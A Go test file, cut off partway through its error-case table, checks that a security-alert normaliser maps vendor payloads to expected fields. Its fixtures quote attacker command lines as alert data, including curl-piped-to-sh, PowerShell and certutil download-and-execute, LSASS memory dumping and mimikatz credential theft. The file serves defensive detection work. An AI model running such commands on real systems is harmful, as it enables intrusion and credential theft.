package catalogue

import (
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/seliq/seliq/enum"
)

// want is the expected normalised output for one alert of a sample.
type want struct {
	raw        string // path of the alert's own JSON in the payload: "" the body, "alerts.1", "3" (array element or NDJSON line)
	source     string // "" = the type's key
	title      string
	severity   enum.Severity
	externalID string
	eventTime  string // RFC 3339 (nanoseconds as needed); "" = none
	mitre      []string
	tags       []string
	attrs      map[string]string // the exact attribute set
	desc       string            // substring of the description ("" = not checked)
}

type sample struct {
	file  string // under testdata/; the directory is the type key
	wants []want
}

var samples = []sample{
	// ---- generic ----
	{"generic/single.json", []want{{
		source: "okta-script", title: "Impossible travel for j.doe@example.com", severity: sevHigh, externalID: "idp-77812",
		eventTime: "2024-05-14T07:21:07Z", mitre: []string{"T1078.004"}, tags: []string{"identity", "okta"},
		attrs: map[string]string{"user": "j.doe@example.com", "src_ip": "203.0.113.45", "category": "identity", "rule": "impossible-travel"},
		desc:  "Lisbon and Singapore",
	}}},
	{"generic/batch.json", []want{
		{raw: "0", title: "Disk encryption disabled on FIN-LT-042", severity: sevCritical, externalID: "9001",
			mitre: []string{}, tags: []string{}, attrs: map[string]string{"host": "FIN-LT-042"}},
		{raw: "1", title: "New admin account created", severity: sevInfo, eventTime: "2024-05-14T10:00:00.25Z",
			mitre: []string{"T1136"}, tags: []string{}, attrs: map[string]string{}},
	}},
	{"generic/envelope.json", []want{
		{raw: "alerts.0", title: "Backup job failed", severity: sevLow, mitre: []string{}, tags: []string{},
			attrs: map[string]string{"host": "db-01", "category": "availability"}, desc: "Nightly backup"},
	}},

	// ---- ocsf ----
	{"ocsf/detection_finding.json", []want{{
		title: "Suspicious PowerShell spawned by Office application", severity: sevHigh, externalID: "det-2024-05-14-0001",
		eventTime: "2024-05-14T09:21:07Z", mitre: []string{"T1059", "T1059.001"}, tags: []string{"edr", "office-macro"},
		attrs: map[string]string{
			"rule": "Office Spawning PowerShell", "host": "WS-0192.corp.example.com", "user": `CORP\m.rossi`,
			"src_ip": "10.20.30.41", "dst_ip": "198.51.100.23", "process": "powershell.exe",
			"command_line": "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
			"file_hash":    "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "file_name": "invoice_0514.docm",
			"category": "Execution",
		},
		desc: "winword.exe started powershell.exe",
	}}},
	{"ocsf/findings_batch.json", []want{
		{raw: "0", title: "Ransomware encryption behaviour", severity: sevCritical, externalID: "det-0002",
			eventTime: "2024-05-14T09:46:40.123Z", mitre: []string{"T1486"}, tags: []string{},
			attrs: map[string]string{"rule": "an-9001", "host": "ip-10-0-1-7.ec2.internal", "src_ip": "10.0.1.7", "category": "Impact"}},
		{raw: "1", title: "Port scan detected", severity: sevMedium, externalID: "det-0003",
			eventTime: "2024-05-14T09:48:20Z", mitre: []string{}, tags: []string{}, attrs: map[string]string{}},
	}},

	// ---- crowdstrike ----
	{"crowdstrike/detects_api.json", []want{
		{raw: "resources.0", title: "Rundll32ProxyExecution", severity: sevCritical,
			externalID: "ldt:8a1f2e3d4c5b6a7980716253443526170:4295128001", eventTime: "2024-05-14T08:12:39Z",
			mitre: []string{"T1218.011", "T1059.001"}, tags: []string{},
			attrs: map[string]string{
				"rule": "Rundll32ProxyExecution", "host": "FIN-WS-017", "src_ip": "10.1.4.17", "user": "a.khan",
				"command_line": `rundll32.exe C:\Users\a.khan\AppData\Local\Temp\upd.dll,Start`,
				"file_hash":    "b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c",
				"file_name":    "rundll32.exe", "process": "rundll32.exe", "category": "Defense Evasion",
			},
			desc: "temporary folder"},
		{raw: "resources.1", title: "Execution via AppleScript", severity: sevMedium,
			externalID: "ldt:11aa22bb33cc44dd55ee66ff77889900:8590001234", eventTime: "2024-05-14T09:39:58Z",
			mitre: []string{"T1059.002"}, tags: []string{},
			attrs: map[string]string{
				"rule": "AppleScript", "host": "mac-design-03", "src_ip": "10.1.9.33", "user": "l.chen",
				"command_line": `osascript -e 'do shell script "curl -s https://example.net/x | sh"'`,
				"file_hash":    "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
				"file_name":    "osascript", "process": "osascript", "category": "Execution",
			}},
	}},
	{"crowdstrike/stream_detection_summary.json", []want{{
		title: "Credential Dumping", severity: sevHigh, externalID: "ldt:5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b:17180139032",
		eventTime: "2024-05-14T09:21:07Z", mitre: []string{"T1003.001"}, tags: []string{},
		attrs: map[string]string{
			"rule": "Credential Dumping", "host": "HR-LT-008", "user": "p.nowak", "src_ip": "10.1.7.8",
			"command_line": `procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\l.dmp`,
			"file_hash":    "0f5e9bd2b3b1c4e6a1c0b3f1a2e2d9c9d9e1f8c7b6a5d4c3b2a1f0e9d8c7b6a5",
			"file_name":    "procdump64.exe", "process": "procdump64.exe", "category": "Credential Access",
		},
		desc: "LSASS memory",
	}}},
	{"crowdstrike/stream_mixed.json", []want{{ // line 0 is an AuthActivityAuditEvent: skipped
		raw: "1", title: "Malicious Document", severity: sevLow, externalID: "ldt:aa11bb22cc33dd44ee55ff6677889900:17180140000",
		eventTime: "2024-05-14T09:22:35Z", mitre: []string{}, tags: []string{},
		attrs: map[string]string{
			"rule": "Malicious Document", "host": "srv-app-02", "user": "svc_deploy", "src_ip": "10.2.0.12",
			"file_hash": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
			"file_name": "quote.xlsm", "process": "quote.xlsm", "category": "Initial Access",
		},
	}}},

	// ---- sentinelone ----
	{"sentinelone/threats_api.json", []want{
		{raw: "data.0", title: "invoice_viewer.exe", severity: sevHigh, externalID: "1942356788994432101",
			eventTime: "2024-05-14T11:02:01.876543Z", mitre: []string{"T1486", "T1490", "T1070.004"}, tags: []string{"Ransomware", "Evasion"},
			attrs: map[string]string{
				"rule": "invoice_viewer.exe", "host": "ACC-WS-112", "user": `CORP\s.ito`, "src_ip": "10.30.1.55",
				"file_hash": "3395856ce81f2b7382dee72602f798b642f14140", "file_name": "invoice_viewer.exe",
				"process": "explorer.exe", "command_line": "invoice_viewer.exe /silent", "category": "Ransomware",
			},
			desc: "Mitigation status: mitigated"},
		{raw: "data.1", title: "kworkerd", severity: sevMedium, externalID: "1942356788994433333",
			eventTime: "2024-05-14T12:30:00Z", mitre: []string{}, tags: []string{},
			attrs: map[string]string{
				"rule": "kworkerd", "host": "dev-ubuntu-04", "user": "www-data",
				"file_hash": "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592", "file_name": "kworkerd",
				"process": "bash", "category": "Malware",
			}},
	}},
	{"sentinelone/threat_single.json", []want{{
		title: "com.update.helper.plist", severity: sevMedium, externalID: "1942356788994439999",
		eventTime: "2024-05-15T07:45:10Z", mitre: []string{"T1543.001"}, tags: []string{"Persistence"},
		attrs: map[string]string{
			"rule": "com.update.helper.plist", "host": "SALES-MBP-21", "user": "k.mueller", "src_ip": "10.40.2.21",
			"file_hash": "c4ca4238a0b923820dcc509a6f75849b", "file_name": "com.update.helper.plist", "category": "PUA",
		},
	}}},

	// ---- defender ----
	{"defender/graph_alerts_v2.json", []want{
		{raw: "value.0", title: "Suspicious execution of hidden file", severity: sevMedium, externalID: "da637578995287051192_756343937",
			eventTime: "2021-04-27T12:19:27.7211305Z", mitre: []string{"T1564.001"},
			tags: []string{"service:microsoftDefenderForEndpoint", "detection:antivirus"},
			attrs: map[string]string{
				"rule": "e0da400f-affd-43ef-b1d5-afc2eb6f2756", "category": "DefenseEvasion", "host": "tempDns.contoso.com",
				"user": "identityIncident9", "file_hash": "8963a19fb992ad9a76576c5638fd68292cffb9aaac29eb8285f9abf6196a7dec",
				"file_name": "MsSense.exe",
			},
			desc: "A hidden file has been launched"},
		{raw: "value.1", title: "Email messages containing malicious URL removed after delivery", severity: sevHigh,
			externalID: "fa2c4b8a7e-0a3b-4c1d-9e2f-6a7b8c9d0e1f", eventTime: "2024-05-14T07:01:02Z", mitre: []string{"T1566.002"},
			tags: []string{"service:microsoftDefenderForOffice365", "detection:microsoftDefenderForOffice365"},
			attrs: map[string]string{
				"rule": "Email messages containing malicious URL removed after delivery", "category": "InitialAccess",
				"email_from": "billing@contoso-payments.example", "email_to": "r.silva@example.com",
				"url": "https://contoso-payments.example/pay", "src_ip": "192.0.2.55",
			}},
	}},
	{"defender/mde_alert.json", []want{{
		title: "Low-reputation arbitrary code executed by signed executable", severity: sevLow, externalID: "da637472900382838869_1364969609",
		eventTime: "2021-01-26T20:33:57.7220239Z", mitre: []string{"T1064", "T1085", "T1220"}, tags: []string{"detection:WindowsDefenderAtp"},
		attrs: map[string]string{
			"rule": "17e10bbc-3a68-474a-8aad-faef14d43952", "category": "Execution", "host": "temp123.middleeast.corp.microsoft.com",
			"user": "temp123", "process": "rundll32.exe", "command_line": `rundll32.exe  c:\temp\suspicious.dll,RepeatAfterMeNow`,
			"file_hash": "dc0ade0c95d6db98882bc8fa6707e64353cd6f7767ff48d6a81a6c2aef21c608", "file_name": "suspicious.dll",
		},
	}}},

	// ---- splunk ----
	{"splunk/webhook_notable.json", []want{{
		title: "Endpoint - Suspicious PowerShell Download - Rule", severity: sevCritical,
		externalID: "scheduler__admin__SplunkEnterpriseSecuritySuite__RMD5f3b9d7c1a2e4b6c8_at_1715680320_4182",
		eventTime:  "2024-05-14T09:52:05Z", mitre: []string{"T1059.001", "T1105"}, tags: []string{"process", "report"},
		attrs: map[string]string{
			"rule": "Endpoint - Suspicious PowerShell Download - Rule", "host": "WIN-SQL-03", "src_ip": "10.5.2.19",
			"dst_ip": "198.51.100.80", "user": `CORP\svc_sql`, "process": "powershell.exe",
			"command_line": `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.80/p.ps1')"`,
		},
		desc: "Search results: https://splunk.example.com:8000/",
	}}},
	{"splunk/webhook_doc_example.json", []want{{ // the example of Splunk's documentation: unnamed search
		title: "Splunk alert scheduler_admin_search_W2_at_14232356_132", severity: sevMedium,
		externalID: "scheduler_admin_search_W2_at_14232356_132", mitre: []string{}, tags: []string{}, attrs: map[string]string{},
		desc: "Search results: http://web.example.local:8000/app/search/@go?sid=scheduler_admin_search_W2_at_14232356_132",
	}}},
	{"splunk/webhooks_numeric.json", []want{
		{raw: "0", title: "VPN brute force", severity: sevCritical, externalID: "rt_md_1715691900.77", eventTime: "2024-05-14T13:05:00Z",
			mitre: []string{}, tags: []string{},
			attrs: map[string]string{"rule": "VPN brute force", "host": "vpn.example.com", "src_ip": "203.0.113.99", "user": "admin", "category": "authentication"}},
		{raw: "1", title: "Outbound SMB to internet", severity: sevLow, externalID: "scheduler_secops_c2VhcmNo_at_1715692000_12",
			eventTime: "2024-05-14T13:06:40Z", mitre: []string{}, tags: []string{},
			attrs: map[string]string{"rule": "Outbound SMB to internet", "src_ip": "10.9.9.9", "dst_ip": "192.0.2.200"}},
	}},

	// ---- elastic ----
	{"elastic/kibana_webhook.json", []want{
		{raw: "alerts.0", title: "Suspicious Execution via Microsoft Office Application", severity: sevHigh,
			externalID: "b1f5e8f2d4c3a0b9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5", eventTime: "2024-05-14T14:02:11.428Z",
			mitre: []string{"T1566", "T1566.001"}, tags: []string{"Domain: Endpoint", "OS: Windows", "Tactic: Execution"},
			attrs: map[string]string{
				"rule": "Suspicious Execution via Microsoft Office Application", "host": "FIN-WS-221", "user": "r.gomez",
				"process": "cmd.exe", "command_line": `cmd.exe /c certutil -urlcache -f http://198.51.100.14/s.exe %TEMP%\s.exe`,
				"file_hash": "b99d114b0e1d4dbc1d5c8b3e4ad7d5e3f4b1a2c3d4e5f60718293a4b5c6d7e8f", "category": "process",
			},
			desc: "parent process WINWORD.EXE"},
		{raw: "alerts.1", title: "Potential Credential Access via LSASS Memory Dump", severity: sevCritical, externalID: "c2a6f9",
			eventTime: "2024-05-14T14:10:00Z", mitre: []string{"T1003", "T1003.001"}, tags: []string{"Tactic: Credential Access"},
			attrs: map[string]string{
				"rule": "Potential Credential Access via LSASS Memory Dump", "host": "DC-01", "user": "administrator",
				"src_ip": "10.0.0.77", "process": "rundll32.exe",
				"command_line": `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full`,
				"file_hash":    "4f2b1d0c9e8a7f6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b", "file_name": "l.dmp",
				"category": "process",
			}},
	}},
	{"elastic/search_hits.json", []want{{
		raw: "hits.hits.0", title: "Unusual DNS Activity", severity: sevLow,
		externalID: "3e1f0b2c9d8a7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f", eventTime: "2024-05-14T15:20:30Z",
		mitre: []string{}, tags: []string{},
		attrs: map[string]string{"rule": "Unusual DNS Activity", "src_ip": "10.3.3.3", "dst_ip": "8.8.8.8", "domain": "xk2j4h5.badexample.top", "category": "network"},
	}}},

	// ---- wazuh ----
	{"wazuh/sshd_bruteforce.json", []want{{
		title: "sshd: brute force trying to get access to the system. Non existent user.", severity: sevMedium,
		externalID: "1715704863.2873412", eventTime: "2024-05-14T16:41:03.812Z", mitre: []string{"T1110"},
		tags:  []string{"syslog", "sshd", "authentication_failures"},
		attrs: map[string]string{"rule": "5712", "host": "web-prod-02", "src_ip": "198.51.100.201", "user": "admin", "category": "authentication_failures"},
		desc:  "Invalid user admin",
	}}},
	{"wazuh/alerts_ndjson.json", []want{
		{raw: "0", title: "Integrity checksum changed.", severity: sevLow, externalID: "1715706164.3381", eventTime: "2024-05-14T17:02:44.12Z",
			mitre: []string{"T1565.001"}, tags: []string{"ossec", "syscheck", "syscheck_entry_modified", "syscheck_file"},
			attrs: map[string]string{"rule": "550", "host": "db-01", "file_name": "passwd", "category": "syscheck_file",
				"file_hash": "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"}},
		{raw: "1", title: "Mimikatz usage detected", severity: sevCritical, externalID: "1715706310.44120", eventTime: "2024-05-14T17:05:10.007Z",
			mitre: []string{"T1003.001"}, tags: []string{"windows", "sysmon", "sysmon_eid1_detections"},
			attrs: map[string]string{"rule": "92052", "host": "WIN-HR-07", "user": "h.wong", "process": "m.exe", "category": "sysmon_eid1_detections",
				"command_line": `m.exe "privilege::debug" "sekurlsa::logonpasswords" exit`}},
	}},

	// ---- suricata ----
	{"suricata/eve_alert.json", []want{{
		title: "ET MALWARE Cobalt Strike Beacon Observed", severity: sevHigh, externalID: "1805461738637437",
		eventTime: "2024-05-14T18:22:31.104523Z", mitre: []string{"T1071"}, tags: []string{"action:allowed", "proto:tcp", "http"},
		attrs: map[string]string{
			"rule": "2024897", "category": "A Network Trojan was detected", "src_ip": "10.16.1.25", "dst_ip": "198.51.100.66",
			"domain": "cdn.badexample.net", "url": "http://cdn.badexample.net/jquery-3.3.1.min.js",
		},
		desc: "TCP 10.16.1.25:49822 → 198.51.100.66:80",
	}}},
	{"suricata/eve_ndjson.json", []want{ // lines 0 (flow) and 2 (stats) are skipped
		{raw: "1", title: "ET INFO Observed DNS Query to .top TLD", severity: sevMedium, externalID: "998877665544332",
			eventTime: "2024-05-14T18:30:01.51121Z", mitre: []string{}, tags: []string{"action:allowed", "proto:udp", "dns"},
			attrs: map[string]string{"rule": "2027863", "category": "Potentially Bad Traffic", "src_ip": "10.16.1.40", "dst_ip": "10.16.0.2", "domain": "update.xk2j4h5.top"}},
		{raw: "3", title: "ET POLICY Observed SSL Cert for Free Hosting Domain", severity: sevLow, externalID: "556677889900112",
			eventTime: "2024-05-14T18:30:05.25Z", mitre: []string{}, tags: []string{"action:blocked", "proto:tcp", "tls"},
			attrs: map[string]string{"rule": "2035466", "category": "Misc activity", "src_ip": "2001:db8::25", "dst_ip": "2001:db8:ffff::10", "domain": "files.freehost.example"},
			desc:  "[2001:db8::25]:51544"},
	}},

	// ---- alertmanager ----
	{"alertmanager/webhook_v4.json", []want{
		{raw: "alerts.0", title: "Host out of disk space (instance db-01.example.com:9100)", severity: sevCritical,
			externalID: "b1a7d5c9e3f20417", eventTime: "2024-05-14T19:00:15.123Z", mitre: []string{}, tags: []string{"status:firing"},
			attrs: map[string]string{"rule": "HostOutOfDiskSpace", "host": "db-01.example.com"},
			desc:  "Runbook: https://runbooks.example.com/disk"},
		{raw: "alerts.1", title: "Host out of disk space (instance 10.0.3.4:9100)", severity: sevMedium,
			externalID: "0c4e2a9b7d1f3856", eventTime: "2024-05-14T18:40:00Z", mitre: []string{}, tags: []string{"status:resolved"},
			attrs: map[string]string{"rule": "HostOutOfDiskSpace", "host": "10.0.3.4"}},
	}},
	{"alertmanager/single_alert.json", []want{{
		title: "FalcoCriticalRule", severity: sevCritical, externalID: "7f3e9a1c5b2d4e60", eventTime: "2024-05-14T20:11:00Z",
		mitre: []string{"T1611"}, tags: []string{"status:active"},
		attrs: map[string]string{"rule": "FalcoCriticalRule", "host": "k8s-node-3"},
		desc:  "Container escape attempt",
	}}},

	// ---- email ----
	{"email/phishing_report.json", []want{{
		title: "[HIGH] Phishing campaign detected: 14 recipients", severity: sevHigh,
		externalID: "20240514190344.7731@mail-gateway.example.com", eventTime: "2024-05-14T19:03:44Z", mitre: []string{}, tags: []string{},
		attrs: map[string]string{"email_from": "alerts@mail-gateway.example.com", "email_to": "soc@example.com", "domain": "mail-gateway.example.com"},
		desc:  "quarantined 14 messages from invoice-portal.example.net",
	}}},
	{"email/postmark_inbound.json", []want{{
		title: `CRITICAL: ransomware canary file modified on \\nas01\finance`, severity: sevCritical,
		externalID: "73e6d360-66eb-11e1-8e72-a8904824019b", eventTime: "2024-05-15T02:14:00Z", mitre: []string{}, tags: []string{},
		attrs: map[string]string{"email_from": "backup@nas01.example.com", "email_to": "soc+backup@example.com", "domain": "nas01.example.com"},
		desc:  "Canary file _canary.docx was modified by user svc_backup.\nShare:",
	}}},
}

func readSample(t testing.TB, file string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", file))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// rawAt extracts the exact bytes at path in payload (see want.raw).
func rawAt(t *testing.T, payload []byte, path string) []byte {
	t.Helper()
	body := bytes.TrimSpace(payload)
	if path == "" {
		return body
	}
	parts := strings.Split(path, ".")
	var cur json.RawMessage
	if json.Valid(body) {
		cur = body
	} else { // NDJSON: the first step is the line index
		dec := json.NewDecoder(bytes.NewReader(body))
		n, _ := strconv.Atoi(parts[0])
		for i := 0; i <= n; i++ {
			if err := dec.Decode(&cur); err != nil {
				t.Fatalf("rawAt %s: %v", path, err)
			}
		}
		parts = parts[1:]
	}
	for _, p := range parts {
		if i, err := strconv.Atoi(p); err == nil {
			var arr []json.RawMessage
			if err := json.Unmarshal(cur, &arr); err != nil || i >= len(arr) {
				t.Fatalf("rawAt %s: no element %d", path, i)
			}
			cur = arr[i]
		} else {
			var m map[string]json.RawMessage
			if err := json.Unmarshal(cur, &m); err != nil {
				t.Fatalf("rawAt %s: %v", path, err)
			}
			cur = m[p]
		}
	}
	return cur
}

func TestSamples(t *testing.T) {
	for _, s := range samples {
		t.Run(s.file, func(t *testing.T) {
			key := filepath.Dir(s.file)
			payload := readSample(t, s.file)
			alerts, err := Map(key, payload)
			if err != nil {
				t.Fatalf("Map: %v", err)
			}
			if len(alerts) != len(s.wants) {
				t.Fatalf("got %d alerts, want %d", len(alerts), len(s.wants))
			}
			for i, w := range s.wants {
				a := alerts[i]
				src := w.source
				if src == "" {
					src = key
				}
				check := func(field string, got, want any) {
					t.Helper()
					if !reflect.DeepEqual(got, want) {
						t.Errorf("alert %d %s = %#v, want %#v", i, field, got, want)
					}
				}
				check("Source", a.Source, src)
				check("Title", a.Title, w.title)
				check("Severity", a.Severity, w.severity)
				check("ExternalID", a.ExternalID, w.externalID)
				check("Mitre", a.Mitre, w.mitre)
				check("Tags", a.Tags, w.tags)
				check("Attributes", a.Attributes, w.attrs)
				var gotTime string
				if a.EventTime != nil {
					gotTime = a.EventTime.Format(time.RFC3339Nano)
					if a.EventTime.Location() != time.UTC {
						t.Errorf("alert %d EventTime not UTC", i)
					}
				}
				check("EventTime", gotTime, w.eventTime)
				if w.desc != "" && !strings.Contains(a.Description, w.desc) {
					t.Errorf("alert %d Description %q does not contain %q", i, a.Description, w.desc)
				}
				if wantRaw := rawAt(t, payload, w.raw); !bytes.Equal(a.Raw, wantRaw) {
					t.Errorf("alert %d Raw is not byte-identical to %q:\n got %.120s\nwant %.120s", i, w.raw, a.Raw, wantRaw)
				}
			}
		})
	}
}

// Every type has at least two sample files and every sample file is asserted.
func TestSamplesCoverEveryType(t *testing.T) {
	asserted := map[string]bool{}
	for _, s := range samples {
		asserted[s.file] = true
	}
	for _, typ := range Types() {
		files, _ := filepath.Glob(filepath.Join("testdata", typ.Key, "*.json"))
		if len(files) < 2 {
			t.Errorf("%s: %d sample files, want at least 2", typ.Key, len(files))
		}
		for _, f := range files {
			rel, _ := filepath.Rel("testdata", f)
			if !asserted[filepath.ToSlash(rel)] {
				t.Errorf("sample %s has no expectations", rel)
			}
		}
	}
}

// A payload in every accepted framing maps to the same alerts: a JSON array of
// the sample, and NDJSON of it, double the alerts.
func TestFramings(t *testing.T) {
	for _, s := range samples {
		payload := bytes.TrimSpace(readSample(t, s.file))
		if !json.Valid(payload) || payload[0] != '{' {
			continue
		}
		key := filepath.Dir(s.file)
		array := []byte("[" + string(payload) + ",\n" + string(payload) + "]")
		compact := new(bytes.Buffer)
		if err := json.Compact(compact, payload); err != nil {
			t.Fatal(err)
		}
		ndjson := []byte(compact.String() + "\n" + compact.String() + "\n")
		for name, body := range map[string][]byte{"array": array, "ndjson": ndjson} {
			alerts, err := Map(key, body)
			if err != nil {
				t.Errorf("%s as %s: %v", s.file, name, err)
				continue
			}
			if len(alerts) != 2*len(s.wants) {
				t.Errorf("%s as %s: %d alerts, want %d", s.file, name, len(alerts), 2*len(s.wants))
				continue
			}
			for i, a := range alerts {
				w := s.wants[i%len(s.wants)]
				if a.Title != w.title || a.Severity != w.severity || a.ExternalID != w.externalID {
					t.Errorf("%s as %s: alert %d = %q/%s/%q", s.file, name, i, a.Title, a.Severity, a.ExternalID)
				}
				if !bytes.Contains(body, a.Raw) {
					t.Errorf("%s as %s: alert %d Raw not found in the body", s.file, name, i)
				}
			}
		}
	}
}

// ---- errors ----

type errCase struct {
	name    string
	key     string
	payload string
	field   string // FieldError.Field when a FieldError is expected
	unmap   string // substring of Unmappable.Reason when Unmappable is expected
	zero    bool   // no error, zero alerts
}

var errCases = []errCase{
	// generic: our own schema, strictly validated
	{name: "generic missing title", key: "generic", payload: `{"description":"x","severity":"high"}`, field: "title"},
	{name: "generic null title", key: "generic", payload: `{"title":null}`, field: "title"},
	{name: "generic blank title", key: "generic", payload: `{"title":"  \n "}`, field: "title"},
	{name: "generic numeric title", key: "generic", payload: `{"title":5}`, field: "title"},
	{name: "generic unknown severity", key: "generic", payload: `{"title":"x","severity":"urgent"}`, field: "severity"},
	{name: "generic severity out of 1-5", key: "generic", payload: `{"title":"x","severity":7}`, field: "severity"},
	{name: "generic severity 0", key: "generic", payload: `{"title":"x","severity":0}`, field: "severity"},
	{name: "generic fractional severity", key: "generic", payload: `{"title":"x","severity":2.5}`, field: "severity"},
	{name: "generic severity object", key: "generic", payload: `{"title":"x","severity":{"level":1}}`, field: "severity"},
	{name: "generic bad event_time", key: "generic", payload: `{"title":"x","event_time":"yesterday"}`, field: "event_time"},
	{name: "generic epoch event_time", key: "generic", payload: `{"title":"x","event_time":1715678467}`, field: "event_time"},
	{name: "generic event_time without zone", key: "generic", payload: `{"title":"x","event_time":"2024-05-14T09:21:07"}`, field: "event_time"},
	{name: "generic non-object element", key: "generic", payload: `[{"title":"a"}, 42]`, field: "1"},
	{name: "generic string element", key: "generic", payload: `[{"title":"a"}, {"title":"b"}, "c"]`, field: "2"},
	{name: "generic element without title", key: "generic", payload: `[{"title":"a"}, {"severity":"high"}]`, field: "1.title"},
	{name: "generic envelope element", key: "generic", payload: `{"alerts":[{"title":"ok"},{"title":""}]}`, field: "alerts.1.title"},
	{name: "generic envelope not a list", key: "generic", payload: `{"alerts":{"title":"x"}}`, field: "alerts"},
	{name: "generic tags not a list", key: "generic", payload: `{"title":"x","tags":"a"}`, field: "tags"},
	{name: "generic tag not a string", key: "generic", payload: `{"title":"x","tags":["a",1]}`, field: "tags.1"},
	{name: "generic tactic as mitre", key: "generic", payload: `{"title":"x","mitre":["TA0001"]}`, field: "mitre.0"},
	{name: "generic unknown attribute", key: "generic", payload: `{"title":"x","attributes":{"hostname":"a"}}`, field: "attributes.hostname"},
	{name: "generic attribute object", key: "generic", payload: `{"title":"x","attributes":{"host":{"a":1}}}`, field: "attributes.host"},
	{name: "generic attributes list", key: "generic", payload: `{"title":"x","attributes":["host"]}`, field: "attributes"},
	{name: "generic external_id object", key: "generic", payload: `{"title":"x","external_id":{}}`, field: "external_id"},
	{name: "generic description number", key: "generic", payload: `{"title":"x","description":1}`, field: "description"},
	{name: "generic empty array", key: "generic", payload: `[]`, zero: true},
	{name: "generic empty envelope", key: "generic", payload: `{"alerts":[]}`, zero: true},

	// framing errors, the same for every type
	{name: "not JSON", key: "crowdstrike", payload: `detection: bad`, field: ""},
	{name: "empty body", key: "wazuh", payload: "  \n", field: ""},
	{name: "JSON string", key: "elastic", payload: `"alert"`, field: ""},
	{name: "JSON null", key: "defender", payload: `null`, field: ""},
	{name: "trailing garbage", key: "suricata", payload: `{"event_type":"alert"} }`, field: ""},
	{name: "truncated", key: "splunk", payload: `{"result": {"host": "a"`, field: ""},
	{name: "array of numbers", key: "sentinelone", payload: `[1]`, field: "0"},
	{name: "ndjson with a list line", key: "suricata", payload: "{\"event_type\":\"flow\"}\n[1]\n", field: "1"},
	{name: "empty array", key: "ocsf", payload: ` [ ] `, zero: true},

	// vendor types: unmappable payloads go to the dead-letter list
	{name: "alertmanager no alerts no labels", key: "alertmanager", payload: `{"receiver":"seliq","status":"firing","groupLabels":{}}`, unmap: "no alerts list and no labels"},
	{name: "alertmanager element without name", key: "alertmanager", payload: `{"version":"4","alerts":[{"labels":{"severity":"critical"},"annotations":{"description":"d"}}]}`, unmap: "alerts.0: no labels.alertname"},
	{name: "alertmanager bare element", key: "alertmanager", payload: `{"version":"4","alerts":[{"status":"firing"}]}`, unmap: "alerts.0: alert without labels"},
	{name: "alertmanager labels not an object", key: "alertmanager", payload: `{"version":"4","alerts":[{"labels":{"alertname":"A"}},{"labels":"oops"}]}`, field: "alerts.1.labels"},
	{name: "alertmanager alerts not a list", key: "alertmanager", payload: `{"version":"4","alerts":"x"}`, field: "alerts"},
	{name: "alertmanager element not an object", key: "alertmanager", payload: `{"version":"4","alerts":[1]}`, field: "alerts.0"},
	{name: "alertmanager no alerts", key: "alertmanager", payload: `{"version":"4","status":"resolved","alerts":[]}`, zero: true},
	{name: "suricata flow event", key: "suricata", payload: `{"timestamp":"2024-05-14T18:30:00.000100+0000","flow_id":1,"event_type":"flow","src_ip":"10.0.0.1","dest_ip":"10.0.0.2","proto":"UDP"}`, unmap: `event_type "flow" is not an alert`},
	{name: "suricata stream without alerts", key: "suricata", payload: "{\"event_type\":\"dns\"}\n{\"event_type\":\"stats\"}\n", unmap: "2 record(s) skipped"},
	{name: "suricata alert without alert object", key: "suricata", payload: `{"event_type":"alert","src_ip":"10.0.0.1"}`, unmap: "without an alert object"},
	{name: "suricata not EVE", key: "suricata", payload: `{"message":"hello"}`, unmap: "no event_type"},
	{name: "crowdstrike audit event", key: "crowdstrike", payload: `{"metadata":{"eventType":"AuthActivityAuditEvent","offset":1},"event":{"UserId":"x"}}`, unmap: "AuthActivityAuditEvent"},
	{name: "crowdstrike event not an object", key: "crowdstrike", payload: `{"metadata":{"eventType":"DetectionSummaryEvent"},"event":"x"}`, field: "event"},
	{name: "crowdstrike unknown object", key: "crowdstrike", payload: `{"hostname":"a"}`, unmap: "not a Falcon detection"},
	{name: "crowdstrike id list", key: "crowdstrike", payload: `{"meta":{},"resources":["ldt:abc:1"]}`, field: "resources.0"},
	{name: "crowdstrike empty resources", key: "crowdstrike", payload: `{"meta":{"query_time":0.1},"resources":[],"errors":[]}`, zero: true},
	{name: "sentinelone no threatInfo", key: "sentinelone", payload: `{"data":[{"id":"1"}]}`, unmap: "data.0: not a SentinelOne threat"},
	{name: "sentinelone empty data", key: "sentinelone", payload: `{"data":[],"pagination":{"totalItems":0}}`, zero: true},
	{name: "defender no title", key: "defender", payload: `{"value":[{"id":"x","severity":"high"}]}`, unmap: "value.0: not a Microsoft security alert"},
	{name: "defender value not a list", key: "defender", payload: `{"value":"x"}`, field: "value"},
	{name: "splunk unnamed result without sid", key: "splunk", payload: `{"result":{"count":"1"}}`, unmap: "no search_name"},
	{name: "splunk result not an object", key: "splunk", payload: `{"result":"x","sid":"1"}`, field: "result"},
	{name: "elastic no rule name", key: "elastic", payload: `{"alerts":[{"host.name":"x"}]}`, unmap: "alerts.0: not an Elastic Security alert"},
	{name: "elastic empty hits", key: "elastic", payload: `{"took":1,"hits":{"total":{"value":0},"hits":[]}}`, zero: true},
	{name: "wazuh no rule", key: "wazuh", payload: `{"agent":{"name":"x"},"full_log":"y"}`, unmap: "no rule object"},
